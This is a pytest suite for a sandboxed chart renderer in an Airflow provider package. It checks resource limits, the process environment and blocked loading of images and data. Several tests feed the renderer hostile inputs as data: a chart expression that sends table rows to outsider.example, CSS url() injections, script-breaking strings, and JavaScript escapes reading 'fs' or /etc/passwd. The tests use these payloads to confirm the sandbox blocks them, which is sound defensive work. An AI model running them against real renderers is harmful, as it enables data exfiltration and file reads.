"""Charts are drawn in a process that has limits, no environment, and loads nothing."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest

from airflow_provider_platform.charts import (
    ChartError,
    ChartLimits,
    ChartRenderer,
    render_chart,
)
from airflow_provider_platform.charts import renderer as drawing

if TYPE_CHECKING:
    from collections.abc import Iterator

pytest.importorskip("vl_convert", reason="the extra charts is not installed")

FONTS = Path(__file__).parents[2] / "support" / "fonts"
COLUMNS = [{"name": "country", "type": "String"}, {"name": "revenue", "type": "Double"}]
ROWS: list[list[Any]] = [["Spain", "12.5"], ["</script><script>x<!--&", 7]]
BARS: dict[str, Any] = {
    "title": "Revenue </title>",
    "mark": "bar",
    "encoding": {
        "x": {"field": "country", "type": "nominal"},
        "y": {"field": "revenue", "type": "quantitative"},
    },
}


@pytest.fixture(scope="module")
def renderer() -> Iterator[ChartRenderer]:
    with ChartRenderer(ChartLimits(seconds=120)) as one:
        yield one


def pid_of(renderer: ChartRenderer) -> int:
    assert renderer._process is not None
    return renderer._process.pid


def is_running(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def texts(svg: bytes) -> list[str]:
    return [element.text or "" for element in ET.fromstring(svg).iter() if element.text]


def test_chart_is_drawn_in_every_format(renderer: ChartRenderer) -> None:
    pictures = renderer.render(BARS, COLUMNS, ROWS, ["html", "png", "svg"])
    assert list(pictures) == ["html", "png", "svg"]
    assert pictures["png"].startswith(b"\x89PNG")
    assert {"Spain", ROWS[1][0]} <= set(texts(pictures["svg"]))
    assert pictures["svg"].count(b'aria-roledescription="bar"') == 2
    html = pictures["html"].decode()
    assert html.count("<script") == html.count("</script>") == 3
    assert ROWS[1][0] not in html
    assert "https://cdn" not in html


def test_one_process_draws_many_charts_and_the_same_chart_twice(renderer: ChartRenderer) -> None:
    first = renderer.render(BARS, COLUMNS, ROWS, ["png", "svg"])
    pid = pid_of(renderer)
    with pytest.raises(ChartError, match=r"cannot be drawn: .*hconcat\.map is not a function"):
        renderer.render({"mark": "bar", "hconcat": 5}, COLUMNS, ROWS, ["svg"])
    with pytest.raises(ChartError, match="cannot be drawn"):
        renderer.render({"mark": "nonsense"}, COLUMNS, ROWS, ["html"])
    assert renderer.render(BARS, COLUMNS, ROWS, ["png", "svg"]) == first
    assert pid_of(renderer) == pid


class Visitors(BaseHTTPRequestHandler):
    """A server that notes who asks it for something."""

    paths: list[str]

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_error(404)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def visited() -> Iterator[tuple[str, list[str]]]:
    paths: list[str] = []
    server = HTTPServer(("127.0.0.1", 0), type("Noting", (Visitors,), {"paths": paths}))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/x.png", paths
    server.shutdown()
    thread.join()
    server.server_close()


def image_specifications(address: str) -> list[dict[str, Any]]:
    """An image mark with an address in every place where a specification can have one."""
    encoding = BARS["encoding"]
    mark = {"type": "image", "width": 50, "height": 50}
    fixed: dict[str, Any] = {"mark": {**mark, "url": address}, "encoding": encoding}
    by_value = {"mark": mark, "encoding": {**encoding, "url": {"value": address}}}
    by_rule = {"condition": {"test": "true", "value": address}, "value": address}
    return [
        {"layer": [BARS, part]}
        for part in (
            fixed,
            by_value,
            {"mark": {**mark, "url": {"expr": f"'{address}'"}}, "encoding": encoding},
            {"mark": mark, "encoding": {**encoding, "url": {"field": "link"}}},
            {"mark": mark, "encoding": {**encoding, "url": by_rule}},
            {"mark": {**mark, "style": "own"}, "encoding": encoding},
        )
    ] + [
        {"hconcat": [BARS, fixed]},
        {"vconcat": [BARS, {"layer": [by_value]}]},
        {"concat": [BARS, {"repeat": ["revenue"], "spec": by_value}]},
        {"hconcat": [BARS, {"facet": {"field": "country"}, "spec": {"layer": [fixed, by_value]}}]},
    ]


@pytest.mark.exhaustive
@pytest.mark.parametrize("number", range(10))
def test_image_is_loaded_from_no_place_of_a_specification(
    renderer: ChartRenderer, tmp_path: Path, visited: tuple[str, list[str]], number: int
) -> None:
    address, paths = visited
    red = tmp_path / "red.png"
    red.write_bytes(renderer.render(BARS, COLUMNS, ROWS)["png"])
    columns = [*COLUMNS, {"name": "link", "type": "String"}]
    drawn = []
    for source in (str(red), red.as_uri(), address, str(tmp_path / "missing.png")):
        spec = image_specifications(source)[number]
        spec["config"] = {"image": {"url": source}, "style": {"own": {"url": source}}}
        rows = [[*row, source] for row in ROWS]
        pictures = renderer.render(spec, columns, rows, ["svg", "png"])
        assert b"href" not in pictures["svg"].replace(b'href=""', b"")
        drawn.append(pictures["png"])
    assert len(set(drawn)) == 1
    assert paths == []


SENDS = "'url(http://outsider.example/?rows=' + pluck(data('source_0'), 'country') + '#a)'"


@pytest.mark.parametrize(
    "changes",
    [
        {"mark": {"type": "bar", "color": {"expr": SENDS}}},
        {"mark": {"type": "bar", "blend": "multiply; background: url(http://outsider.example/)"}},
        {"mark": {"type": "bar", "color": "u\\72l(http://outsider.example/#a)"}},
        {"background": "image-set('http://outsider.example/' 1x)"},
        {"config": {"view": {"stroke": "url(http://outsider.example/#a)"}}},
        {"config": {"axis": {"labelFont": "x, url(http://outsider.example/)"}}},
        {"mark": {"type": "bar", "color": {"gradient": "linear", "stops": [
            {"offset": 0, "color": "red"}, {"offset": 1, "color": "url(http://outsider.example/)"}]}}},
    ],
)  # fmt: skip
def test_svg_that_would_send_rows_when_it_is_opened_is_not_written(
    renderer: ChartRenderer, changes: dict[str, Any]
) -> None:
    with pytest.raises(ChartError, match=r"could send its rows|cannot be drawn"):
        renderer.render({**BARS, **changes}, COLUMNS, ROWS, ["svg"])


def test_values_may_look_like_styles(renderer: ChartRenderer) -> None:
    rows = [["url(http://x)", 1], ["a\\b", 2]]
    assert {"url(http://x)", "a\\b"} <= set(
        texts(renderer.render(BARS, COLUMNS, rows, ["svg"])["svg"])
    )


@pytest.mark.parametrize("place", ["top", "layer", "concat", "lookup"])
def test_data_is_loaded_from_no_place_of_a_specification(
    renderer: ChartRenderer, tmp_path: Path, visited: tuple[str, list[str]], place: str
) -> None:
    address, paths = visited
    secret = tmp_path / "secret.csv"
    secret.write_text("country,revenue\nSECRETLAND,5\n")
    for source in (secret.as_uri(), str(secret), address):
        data = {"url": source, "format": {"type": "csv"}}
        layer = {**BARS, "data": data}
        lookup = {"lookup": "country", "from": {"data": data, "key": "country", "fields": ["x"]}}
        spec = {
            "top": layer,
            "layer": {"layer": [layer]},
            "concat": {"hconcat": [{"layer": [layer]}]},
            "lookup": {**BARS, "transform": [lookup]},
        }[place]
        try:
            svg = renderer.render(spec, COLUMNS, ROWS, ["svg"])["svg"]
        except ChartError as error:
            assert place == "lookup"
            svg = error.message.encode()
        assert b"SECRETLAND" not in svg
    assert paths == []


@pytest.mark.parametrize(
    "expression",
    ["datum.constructor.constructor('return 1')()", "window.process", "import('fs')",
     "(() => 1)()", "load('file:///etc/passwd')"],
)  # fmt: skip
def test_expression_that_is_not_of_vegas_own_language_is_an_error(
    renderer: ChartRenderer, expression: str
) -> None:
    spec = {**BARS, "transform": [{"calculate": expression, "as": "x"}]}
    with pytest.raises(ChartError, match="cannot be drawn"):
        renderer.render(spec, COLUMNS, ROWS, ["svg"])


@pytest.mark.parametrize(
    "encoding",
    [
        {"x": {"field": "Country", "type": "nominal"}},
        {"y": {"field": "Revenue", "type": "quantitative"}},
        {"y": {"field": "Revenue", "type": "quantitative", "aggregate": "sum"}},
        {"color": {"field": "segment", "type": "nominal"}},
        {"x": {"field": "country", "type": "temporal"}},
        {"y": {"field": "country", "type": "quantitative"}},
    ],
)
@pytest.mark.parametrize("mark", ["bar", "line"])
def test_wrong_field_or_type_is_an_error_with_the_columns(
    renderer: ChartRenderer, mark: str, encoding: dict[str, Any]
) -> None:
    spec = {"mark": mark, "encoding": {**BARS["encoding"], **encoding}}
    with pytest.raises(ChartError, match=r"would be empty or wrong.*2 rows.*'country', 'revenue'"):
        renderer.render(spec, COLUMNS, ROWS, ["svg"])


def test_chart_whose_filter_removes_every_row_is_an_error(renderer: ChartRenderer) -> None:
    for mark in ("bar", "line"):
        spec = {**BARS, "mark": mark, "transform": [{"filter": "datum.revenue > 1000"}]}
        with pytest.raises(ChartError, match="would be empty or wrong"):
            renderer.render(spec, COLUMNS, ROWS, ["svg"])


def test_value_may_be_the_word_undefined(renderer: ChartRenderer) -> None:
    assert renderer.render(BARS, COLUMNS, [["undefined", 1]], ["svg"])


def test_limits_are_checked_before_anything_starts() -> None:
    with ChartRenderer(ChartLimits(rows=1, input_bytes=2000)) as renderer:
        with pytest.raises(ChartError, match="2 rows, more than the limit of 1"):
            renderer.render(BARS, COLUMNS, ROWS)
        with pytest.raises(ChartError, match="not as gif"):
            renderer.render(BARS, COLUMNS, ROWS, ["png", "gif"])
        with pytest.raises(ChartError, match="more than the limit of 2,000"):
            renderer.render({**BARS, "description": "x" * 3000}, COLUMNS, ROWS[:1])
        assert renderer._process is None


@pytest.mark.exhaustive
def test_picture_that_is_too_large_has_single_resolution_or_is_an_error() -> None:
    columns, rows = COLUMNS, [[f"customer {number}", number] for number in range(40)]
    limits = ChartLimits(seconds=120, side=1_000)
    with ChartRenderer(limits) as renderer:
        png = renderer.render(BARS, columns, rows)["png"]
        assert 800 < int.from_bytes(png[16:20], "big") < 1_000
        with pytest.raises(ChartError, match=r"1,\d+ × \d+ pixels large; the limit is 1,000"):
            renderer.render(BARS, columns, rows * 2 + [[f"more {n}", n] for n in range(20)])


@pytest.mark.exhaustive
def test_chart_that_takes_too_long_ends_the_process_and_the_next_chart_is_drawn() -> None:
    slow = {"calculate": "replace(pad('x', 40, 'x') + 'y', regexp('(x+x+)+z'), '')", "as": "z"}
    with ChartRenderer(ChartLimits(seconds=120)) as renderer:
        renderer.render(BARS, COLUMNS, ROWS, ["svg"])
        renderer.close()
        renderer.limits = ChartLimits(seconds=4)
        with pytest.raises(ChartError, match="within the limit of 4 seconds"):
            renderer.render({**BARS, "transform": [slow]}, COLUMNS, ROWS, ["svg"])
        assert renderer._process is None
        renderer.limits = ChartLimits(seconds=120)
        assert renderer.render(BARS, COLUMNS, ROWS, ["svg"])


@pytest.mark.exhaustive
@pytest.mark.skipif(sys.platform != "linux", reason="memory is limited on Linux")
def test_chart_that_needs_too_much_memory_ends_the_process() -> None:
    numbers = {"sequence": {"start": 0, "stop": 2e6, "as": "n"}}
    mean = {"y": {"field": "n", "aggregate": "mean", "type": "quantitative"}}
    spec = {"layer": [BARS, {"data": numbers, "mark": "rule", "encoding": mean}]}
    limits = ChartLimits(seconds=120, memory_bytes=100_000_000)
    with ChartRenderer(limits) as renderer:
        with pytest.raises(ChartError, match="needs more memory than the limit of 100,000,000"):
            renderer.render(spec, COLUMNS, ROWS, ["svg"])
        assert renderer.render(BARS, COLUMNS, ROWS, ["svg"])


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_process_has_no_environment_of_ours(renderer: ChartRenderer) -> None:
    renderer.render(BARS, COLUMNS, ROWS, ["svg"])
    process = Path(f"/proc/{pid_of(renderer)}")
    assert process.joinpath("environ").read_bytes() == b"TZ=UTC\0"
    assert process.joinpath("cwd").readlink() == Path("/")
    assert b"\0-I\0" in process.joinpath("cmdline").read_bytes()


def test_process_that_dies_is_an_error_and_the_next_chart_is_drawn() -> None:
    with ChartRenderer(ChartLimits(seconds=120)) as renderer:
        renderer.render(BARS, COLUMNS, ROWS, ["svg"])
        pid = pid_of(renderer)
        os.kill(pid, signal.SIGKILL)
        with pytest.raises(ChartError, match=r"ended unexpectedly \(exit status -9\)"):
            renderer.render(BARS, COLUMNS, ROWS, ["svg"])
        assert renderer.render(BARS, COLUMNS, ROWS, ["svg"])
        pid = pid_of(renderer)
    assert not is_running(pid)


KILLED = """
import sys
from airflow_provider_platform.charts import ChartLimits, ChartRenderer
from tests.wire.charts.test_renderer import BARS, COLUMNS, ROWS, pid_of
renderer = ChartRenderer(ChartLimits(seconds=120))
renderer.render(BARS, COLUMNS, ROWS, ["svg"])
print(pid_of(renderer), flush=True)
sys.stdin.read()
"""


def test_killed_task_leaves_no_process() -> None:
    """The child ends at the end of its standard input."""
    with subprocess.Popen(
        [sys.executable, "-c", KILLED],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=Path(__file__).parents[3],
    ) as task:  # fmt: skip
        assert task.stdout is not None
        child = int(task.stdout.readline())
        waiting = os.pidfd_open(child) if hasattr(os, "pidfd_open") else None
        task.kill()
        task.wait()
        if waiting is not None:
            import select

            assert select.select([waiting], [], [], 60)[0], "the child is still running"
            os.close(waiting)


def test_missing_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(drawing, "find_spec", lambda _: None)
    with pytest.raises(ChartError, match=r"airflow-provider-platform\[charts\]"):
        render_chart(BARS, COLUMNS, ROWS)


def test_fonts_of_the_folder_are_used() -> None:
    """In the font of the tests, which no machine has, the letter A is a box."""
    view = {**BARS, "title": {"text": "AAAA", "font": "Boxes of the tests"}}
    limits = ChartLimits(seconds=120, scale=1)
    with_fonts = render_chart(view, COLUMNS, ROWS, ["png"], limits, FONTS)["png"]
    assert with_fonts != render_chart(view, COLUMNS, ROWS, ["png"], limits)["png"]


def test_picture_of_a_result_without_rows_shows_a_notice(renderer: ChartRenderer) -> None:
    pictures = renderer.render(BARS, COLUMNS, [], ["svg"])
    assert texts(pictures["svg"]) == ["No rows", BARS["title"]]
    assert pictures.notes == ("The query returned no rows.",)


def test_value_with_characters_that_xml_lacks_is_drawn(renderer: ChartRenderer) -> None:
    rows = [["a\x00\x1b\ud800\ufffe", 1], ["b\u2028\U0001f600", 2]]
    shown = texts(renderer.render(BARS, COLUMNS, rows, ["svg", "png", "html"])["svg"])
    assert {"a\ufffd\ufffd\ufffd\ufffd", "b\u2028\U0001f600"} <= set(shown)
